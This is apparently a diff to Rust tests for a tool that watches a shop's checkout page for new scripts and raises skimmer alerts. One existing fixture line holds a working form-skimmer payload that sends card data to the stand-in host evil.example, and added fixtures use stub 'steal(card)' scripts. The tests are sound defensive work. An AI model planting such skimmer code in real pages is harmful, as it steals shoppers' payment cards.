@@ -193,19 +193,37 @@ both_engines!(code_of_each_session_fills_no_room, MIGRATIONS, async |db| {
         "<script>document.forms[0].onsubmit=e=>{new Image().src=\"//evil.example/?\"+card.value}</script>";
     bench.settled(&page(1_000, skimmer)).await;
     assert_eq!(open(&bench, "script_new").await.len(), 1);
+    close_all(&bench).await;
+    // One that stands in the place of the session's code, and begins as it does, is told once it stays.
+    let hidden = "<head><script>var view = `x`; steal(card)</script>";
+    for is_told in [false, true] {
+        bench.settled(hidden).await;
+        assert_eq!(!open(&bench, "script_new").await.is_empty(), is_told);
+        bench.db.clock.advance(std::time::Duration::from_secs(25 * 3600));
+    }
+    let count = bench.scripts().await.len();
+    assert!(count <= 31, "{count}: it has the place of another");
 });
 
 // A full room was silent for good: a skimmer had no row and no alert, and the shop's own code could not be approved.
 both_engines!(a_full_room_of_code_makes_room, MIGRATIONS, async |db| {
     let bench = Bench::new(db, "").await;
     filled(&bench, 500, ("inline", "code"), false).await;
+    let first = format!("{:032x}", 0);
+    let alert = bench.db.write(move |tx| {
+        tx.commit_silent("a test");
+        let insert = "INSERT INTO checkout_alert (id, kind, script, source, what, seen, is_armed, at, last_at, room) \
+                      VALUES ($1, 'script_new', $1, 'page', 'the first', 1, 0, 0, 0, 'code')";
+        tx.execute(insert, storeward_store::params![&first])
+    });
+    alert.await.unwrap();
     bench.settled("<head><script>document.forms[0].onsubmit = steal</script>").await;
     let told = open(&bench, "script_new").await;
     assert_eq!(told.len(), 2, "{told:?}");
     assert!(told.iter().any(|alert| alert.what.contains("no room for more code")), "{told:?}");
     let rows: Vec<Script> = bench.checkout.scripts(None, 1_000).await.unwrap();
     assert!(rows.len() == 500 && rows.iter().all(|row| row.id.as_str() != format!("{:032x}", 0)));
-    // What was seen least recently went; what the shop has can be approved.
+    // What was seen least recently went, and its alert with it: each row has one at most. What the shop has can be approved.
     let own = rows.iter().find(|row| row.hash.is_some()).unwrap();
     bench.approve(own, Scope::Exact).await;
 });
